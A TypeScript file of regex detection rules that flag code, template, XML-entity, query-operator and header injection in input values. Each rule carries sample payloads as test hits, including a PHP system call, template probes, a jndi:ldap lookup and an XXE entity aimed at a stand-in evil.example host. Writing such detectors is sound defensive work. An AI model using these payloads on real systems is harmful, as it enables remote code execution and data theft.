// biome-ignore-all lint/suspicious/noTemplateCurlyInString: texts of attackers look like templates

import type { ArgumentRule } from './argument-rule.ts';

export const CODE_RULES: readonly ArgumentRule[] = [
  {
    id: 'code.value_is_code',
    category: 'code_injection',
    severity: 'high',
    weight: 6,
    message: 'A value is a call that runs code.',
    pattern:
      /^\s{0,8}(?:<\?php\b|<%=?\s|(?:eval|exec|system|passthru|shell_exec|popen|os\.system)\s?\(\s?["'])/gi,
    hits: ["eval('sleep 5')", '<?php system("id"); ?>'],
    misses: ['evaluate (later)', 'import os; run()'],
  },
  {
    id: 'code.template_probe',
    category: 'code_injection',
    severity: 'high',
    weight: 6,
    message: 'An expression that a template engine would work out.',
    pattern:
      /(?:\{\{|\$\{|#\{|<%=|\*\{|@\()\s{0,4}['"]?\d{1,6}['"]?\s{0,4}[*+]\s{0,4}['"]?\d{1,6}['"]?\s{0,4}(?:\}|%>|\))|\{\{[^}\n]{0,80}(?:__class__|__globals__|__mro__|\bself\.|config\.items|request\.application)|\.__class__\.__(?:mro|base|bases|subclasses)__|\$\{\s{0,2}(?:jndi|lower|upper|env|sys|::-)\s{0,2}:|T\(java\.lang\.|freemarker\.template\.utility|\bconstructor\.constructor\s?\(/gi,
    hits: ['{{7*7}}', '${7*7}', "{{''.__class__.__mro__[1]}}", '${jndi:ldap://evil.example/a}', '<%= 7*7 %>'],
    misses: ['{{ user.name }}', '${HOME}/bin', '{{ price * 2 }}', 'a {{total}} of {{count}}'],
  },
  {
    id: 'code.external_entity',
    category: 'code_injection',
    severity: 'high',
    weight: 6,
    message: 'An XML document that reads other files or addresses.',
    pattern: /<!entity\s{1,8}%?\s{0,8}[\w.-]{1,60}\s{1,8}(?:system|public)\b|<xi:include\b/gi,
    hits: ['<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/x">]>'],
    misses: ['<!DOCTYPE html>', '<!ENTITY nbsp "&#160;">'],
  },
  {
    id: 'code.query_operator',
    category: 'code_injection',
    severity: 'high',
    weight: 4,
    message: 'A value is an operator of a document or directory query.',
    pattern:
      /^\s{0,4}\{\s{0,4}['"]?\$(?:ne|gt|gte|lt|regex|where|exists|nin)['"]?\s{0,4}:|\w\[\$(?:ne|gt|regex|where|exists|nin)\]\s{0,2}=|\*\)\(\|?\(?\w{1,30}=\*|\)\(\|\(\w{1,30}=/gi,
    hits: ['{"$ne": null}', 'password[$ne]=1', '*)(uid=*))(|(uid=*'],
    misses: ['{"ne": 1}', '(a)(b)', '$gt: greater than'],
  },
  {
    id: 'code.header_break',
    category: 'code_injection',
    severity: 'high',
    weight: 4,
    message: 'A value ends and a header of its own begins.',
    pattern:
      /(?:%0d%0a|%0a|\r\n|\\r\\n)\s?(?:set-cookie|location|content-(?:length|type)|bcc|x-[a-z-]{1,30})\s?:/gi,
    hits: ['x%0d%0aSet-Cookie: a=b', 'a@acme.example\r\nBcc: eve@evil.example'],
    misses: ['Location: Berlin', 'content type: text'],
  },
];
